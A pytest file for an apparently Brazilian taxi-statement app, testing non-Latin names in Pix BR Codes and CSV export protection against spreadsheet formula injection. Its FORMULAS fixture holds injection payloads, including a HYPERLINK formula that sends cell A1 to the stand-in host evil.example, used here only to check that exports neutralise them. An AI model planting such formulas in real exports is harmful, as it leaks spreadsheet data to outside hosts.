"""Names in any script: stored and shown as typed, transliterated where a format needs ASCII (the Pix BR Code),
and never evaluated as a formula by a spreadsheet opening a CSV export (issue 27, point 5).

The CSV check reads the file back with Python's ``csv`` (the reader a spreadsheet's import follows: ``;``
separated, quoted cells) and asserts the OWASP "CSV Injection" rule on every cell: none starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return unless it is a plain number. No spreadsheet application is installed on the
developers' or CI's machines, and pandas or LibreOffice would be a heavy dependency for what the rule already says:
a cell led by ``'`` is text to Excel, LibreOffice Calc and Google Sheets.
"""

import csv
import io
from decimal import Decimal

import pytest
import zxingcpp
from PIL import Image

from backend.csv_cells import FORMULA_LEADS, safe_cell
from backend.registry.models import Person
from backend.statements import services
from backend.statements.models import WeeklyStatement
from taxilaw import pix

from .statements_helpers import AFTER_WEEK, MONDAY, cab_with_aux, local, ride  # noqa: F401

CYRILLIC = "Иван Петров"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Clique")', "+5532999991234", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def decoded_qr(payload, tmp_path):
    path = tmp_path / "pix.png"
    path.write_bytes(pix.qr_png(payload))
    return [found.text for found in zxingcpp.read_barcodes(Image.open(path).convert("L"))]


@pytest.mark.django_db
def test_a_cyrillic_receiver_gets_a_valid_br_code_and_keeps_the_name(cab_with_aux, user_for, tmp_path):
    permit, holder, aux = cab_with_aux
    Person.objects.filter(pk=aux.pk).update(full_name=CYRILLIC)
    client = user_for(aux)
    registered = client.put("/api/me/pix-key/", {"kind": "phone", "key": "(32) 99999-1234"}, format="json")
    assert registered.status_code == 200, registered.content
    done = ride(permit, aux, "23.40", local(MONDAY, 9))
    charge = client.get(f"/api/rides/{done.pk}/pix/")
    assert charge.status_code == 200, charge.content
    assert charge.json()["receiver"] == CYRILLIC  # shown as typed
    paid = client.post(f"/api/rides/{done.pk}/payment/", {"method": "pix"}, format="json")
    assert paid.status_code == 201, paid.content
    assert paid.json()["receiver"] == CYRILLIC
    for payload in (charge.json()["payload"], paid.json()["pix"]):
        fields = pix.parse(payload)
        assert (fields["59"], fields["54"]) == ("Ivan Petrov", "23.40")
        assert decoded_qr(payload, tmp_path) == [payload]
    assert client.get("/api/me/pix-terms/").status_code == 200


@pytest.mark.django_db
def test_a_name_with_nothing_a_br_code_can_carry_is_refused_at_registration(make_person, user_for):
    person = make_person()
    Person.objects.filter(pk=person.pk).update(full_name="\u200b\u200b")
    refused = user_for(person).put("/api/me/pix-key/", {"kind": "phone", "key": "(32) 99999-1234"}, format="json")
    assert refused.status_code == 400
    assert "corrija o nome no cadastro" in refused.json()["key"][0]
    # a name changed to such after the key was registered still makes a valid code (field 59 is never empty)
    assert pix.parse(pix.static_pix("+5532999991234", "\u200b", "Muriaé", Decimal("5.00")))["59"] == pix.UNNAMED_RECEIVER


@pytest.mark.parametrize("name,field", [("Иван Петров", "Ivan Petrov"), ("Ζωή Παπαδοπούλου", "Zoi Papadopoyloy"),
                                        ("王小明", "WangXiaoMing"), ("José Araújo", "Jose Araujo")])
def test_names_in_any_script_are_transliterated_in_field_59(name, field, tmp_path):
    payload = pix.static_pix("+5532999991234", name, "Muriaé", Decimal("10.00"))
    assert pix.parse(payload)["59"] == field
    assert decoded_qr(payload, tmp_path) == [payload]


def test_the_owasp_rule_keeps_numbers_and_quotes_formulas():
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [safe_cell(v) for v in ("-12,50", "70,00", "Ana", "", 3, None)] == ["-12,50", "70,00", "Ana", "", 3, None]


@pytest.mark.django_db
def test_a_statement_csv_with_formula_names_opens_as_text(cab_with_aux, user_for):
    permit, holder, aux = cab_with_aux
    Person.objects.filter(pk=holder.pk).update(full_name=FORMULAS[0])
    Person.objects.filter(pk=aux.pk).update(full_name=FORMULAS[3])
    ride(permit, aux, "40.00", local(MONDAY, 9))
    services.close_week(MONDAY, now=AFTER_WEEK)
    statement = WeeklyStatement.objects.get(permit=permit, driver=aux)
    response = user_for(aux).get(f"/api/statements/{statement.pk}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    led = [cell for cell in cells if cell.startswith(FORMULA_LEADS) and safe_cell(cell) != cell]
    assert led == []  # every cell a spreadsheet would evaluate is neutralised
    header, week = rows[0], dict(zip(rows[0], rows[1]))
    assert week["permissionario"] == "'" + FORMULAS[0] and week["motorista"] == "'" + FORMULAS[3]
    assert len(header) == len(rows[1])
